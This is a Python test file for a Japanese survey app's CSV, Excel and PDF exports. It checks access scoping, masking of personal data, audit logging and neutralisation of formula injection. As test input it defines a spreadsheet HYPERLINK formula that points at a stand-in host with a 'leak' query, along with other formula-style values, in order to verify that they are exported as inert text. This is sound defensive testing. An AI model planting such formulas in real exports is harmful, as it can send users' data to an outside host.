"""Exports: CSV with BOM and Japanese headers, the Excel workbook and the PDF report."""
import csv
import io
import subprocess

import pytest
from openpyxl import load_workbook

from survey_app.extensions import db
from survey_app.models import AuditEvent, Facility, Target, Theme

from .reports_fixtures import *  # noqa: F401,F403
from .reports_fixtures import (FACILITY_CODE, FISCAL_YEAR, FORMULA_COMMENT, OTHER_FACILITY_CODE,
                               PII_COMMENT, SMALL_FACILITY_CODE, XSS_SCRIPT)

FY = f"fy={FISCAL_YEAR}"


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM"
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_overview_csv_has_bom_japanese_headers_and_the_visible_facilities(admin_client, known_data):
    rows = read_csv(admin_client.get(f"/reports/export/overview.csv?{FY}"))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["施設コード", "施設名", "都道府県"]
    assert "満足度（%）" in header and "満足度 95%信頼区間 下限（%）" in header
    assert len(body) == 81
    by_code = {row[0]: dict(zip(header, row)) for row in body}
    assert by_code[OTHER_FACILITY_CODE]["満足度（%）"] == "93.3"
    assert by_code[OTHER_FACILITY_CODE]["満足度90%以上"] == "○"
    assert by_code[SMALL_FACILITY_CODE]["満足度（%）"] == "回答数不足"
    assert by_code[FACILITY_CODE]["回答数"] == "67"


def test_manager_overview_csv_lists_only_their_facility(manager_client, known_data):
    rows = read_csv(manager_client.get(f"/reports/export/overview.csv?{FY}"))
    assert [row[0] for row in rows[1:]] == [FACILITY_CODE]


def test_responses_csv_streams_masked_comments_of_one_facility(manager_client, known_data):
    response = manager_client.get(f"/reports/{FACILITY_CODE}/responses.csv?{FY}")
    assert response.is_streamed
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    assert header[0] == "回答ID" and header[-1] == "ご意見・ご要望（個人情報は伏せ字）"
    assert "回答日時（日本時間）" in header
    assert len(body) == 67
    assert {row[1] for row in body} == {FACILITY_CODE}
    text = "\n".join(",".join(row) for row in body)
    assert "佐藤" not in text and "090-1234-5678" not in text and "sato@example.jp" not in text
    assert "担当の〇〇さん" in text
    assert XSS_SCRIPT in text  # CSV is data, not HTML: kept as written (masking only)
    pii_row = next(row for row in body if int(row[0]) == known_data["pii_id"])
    assert pii_row[header.index("満足度")] == "満足"
    formula_row = next(row for row in body if int(row[0]) == known_data["formula_id"])
    assert formula_row[-1] == "'" + FORMULA_COMMENT
    assert "翌年度の意見" not in text


def test_exports_are_audited(app, manager_client, known_data):
    manager_client.get(f"/reports/{FACILITY_CODE}/responses.csv?{FY}").get_data()
    manager_client.get(f"/reports/export/overview.csv?{FY}")
    with app.app_context():
        targets = list(db.session.scalars(
            db.select(AuditEvent.target).where(AuditEvent.action == "report.export")))
    assert f"{FACILITY_CODE} responses.csv fy={FISCAL_YEAR}" in targets
    assert f"overview.csv fy={FISCAL_YEAR}" in targets


def test_overview_workbook_has_the_sheets_and_figures(admin_client, known_data):
    response = admin_client.get(f"/reports/export/overview.xlsx?{FY}")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    assert workbook.sheetnames[0] == "概要"
    assert workbook.sheetnames[-3:] == ["テーマ", "利用者の声", "年度目標"]
    assert len(workbook.sheetnames) == 81 + 4
    summary = workbook["概要"]
    assert "2施設中1施設で90%以上の利用者満足度" in summary["A2"].value
    header = [cell.value for cell in summary[5]]
    rows = {row[0]: dict(zip(header, row)) for row in summary.iter_rows(min_row=6, values_only=True)}
    assert rows[OTHER_FACILITY_CODE]["満足度（%）"] == 93.3
    assert rows[SMALL_FACILITY_CODE]["満足度（%）"] == "回答数不足"
    kawaguchi = next(sheet for sheet in workbook.worksheets if sheet["A2"].value and FACILITY_CODE in sheet["A2"].value)
    months = {row[0]: row for row in kawaguchi.iter_rows(min_row=5, values_only=True)}
    assert months["2024年4月"][1] == 15
    assert months["年度計"][1] == 67
    themes = workbook["テーマ"]
    theme_rows = list(themes.iter_rows(min_row=2, values_only=True))
    assert any(row[0] == FACILITY_CODE and row[3] == "求人検索端末の増設" for row in theme_rows)


def test_manager_workbook_holds_only_their_facility(manager_client, known_data):
    workbook = load_workbook(io.BytesIO(manager_client.get(f"/reports/export/overview.xlsx?{FY}").get_data()))
    assert len(workbook.sheetnames) == 5
    text = " ".join(str(cell.value) for sheet in workbook.worksheets for row in sheet.iter_rows()
                    for cell in row if cell.value is not None)
    assert "青森" not in text and OTHER_FACILITY_CODE not in text


def test_pdf_report_opens_and_names_the_facility_in_japanese(manager_client, known_data, tmp_path):
    # WeasyPrint is a dependency and `make test` installs poppler-utils: no skipping here.
    response = manager_client.get(f"/reports/{FACILITY_CODE}/report.pdf?{FY}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(response.get_data())
    assert pdf.read_bytes().startswith(b"%PDF")
    subprocess.run(["pdftoppm", "-png", "-r", "50", str(pdf), str(tmp_path / "page")], check=True)
    pages = sorted(tmp_path.glob("page*.png"))
    assert len(pages) >= 2
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], check=True,
                          capture_output=True, text=True).stdout
    assert "川口市 就労支援コーナー" in text
    assert "年度のまとめ" in text and "回答の分布" in text and "年度目標と実績" in text
    assert "佐藤" not in text and "090-1234-5678" not in text
    assert PII_COMMENT not in text


FORMULA_NAME = '=HYPERLINK("http://example.com/?leak","開く")'


def workbook_cells(workbook):
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def test_workbook_writes_every_text_as_text_never_as_a_formula(app, admin_client, known_data):
    with app.app_context():
        facility = db.session.scalar(db.select(Facility).where(Facility.code == FACILITY_CODE))
        facility.name, facility.municipality = FORMULA_NAME, "@SUM(1+1)"
        theme = db.session.scalar(db.select(Theme).where(Theme.theme_id == "T02"))
        theme.label = "+1+1"
        db.session.add_all([
            Target(facility=facility, fiscal_year=FISCAL_YEAR, indicator_key="k1", indicator_name="-2+3",
                   kind="count", unit="人", direction="higher", target=10, result=12, note="=1+1"),
            Target(facility=facility, fiscal_year=FISCAL_YEAR, indicator_key="k2", indicator_name="相談件数",
                   kind="count", unit="人", direction="higher", target=10, result=None, note="#N/A"),
        ])
        db.session.commit()
    workbook = load_workbook(io.BytesIO(admin_client.get(f"/reports/export/overview.xlsx?{FY}").get_data()))
    cells = workbook_cells(workbook)
    assert [cell.coordinate for cell in cells if cell.data_type not in ("s", "n")] == []
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    texts = {cell.value for cell in cells}
    # Prefixed with an apostrophe, as in the CSV exports; other text unchanged.
    assert {"'" + FORMULA_NAME, "'@SUM(1+1)", "'+1+1", "'-2+3", "'=1+1", "#N/A"} <= texts
    sheet = next(sheet for sheet in workbook.worksheets if FACILITY_CODE in str(sheet["A2"].value))
    assert sheet["A1"].value.startswith("'" + FORMULA_NAME + "（")


def test_workbook_drops_control_characters_instead_of_failing(app, admin_client, known_data):
    with app.app_context():
        facility = db.session.scalar(db.select(Facility).where(Facility.code == FACILITY_CODE))
        db.session.add(Target(facility=facility, fiscal_year=FISCAL_YEAR, indicator_key="k1",
                              indicator_name="相談件数", kind="count", unit="人", direction="higher",
                              target=10, result=12, note="ベル\x07と\x1bエスケープ"))
        db.session.commit()
    response = admin_client.get(f"/reports/export/overview.xlsx?{FY}")
    assert response.status_code == 200
    texts = {cell.value for cell in workbook_cells(load_workbook(io.BytesIO(response.get_data())))}
    assert "ベルとエスケープ" in texts
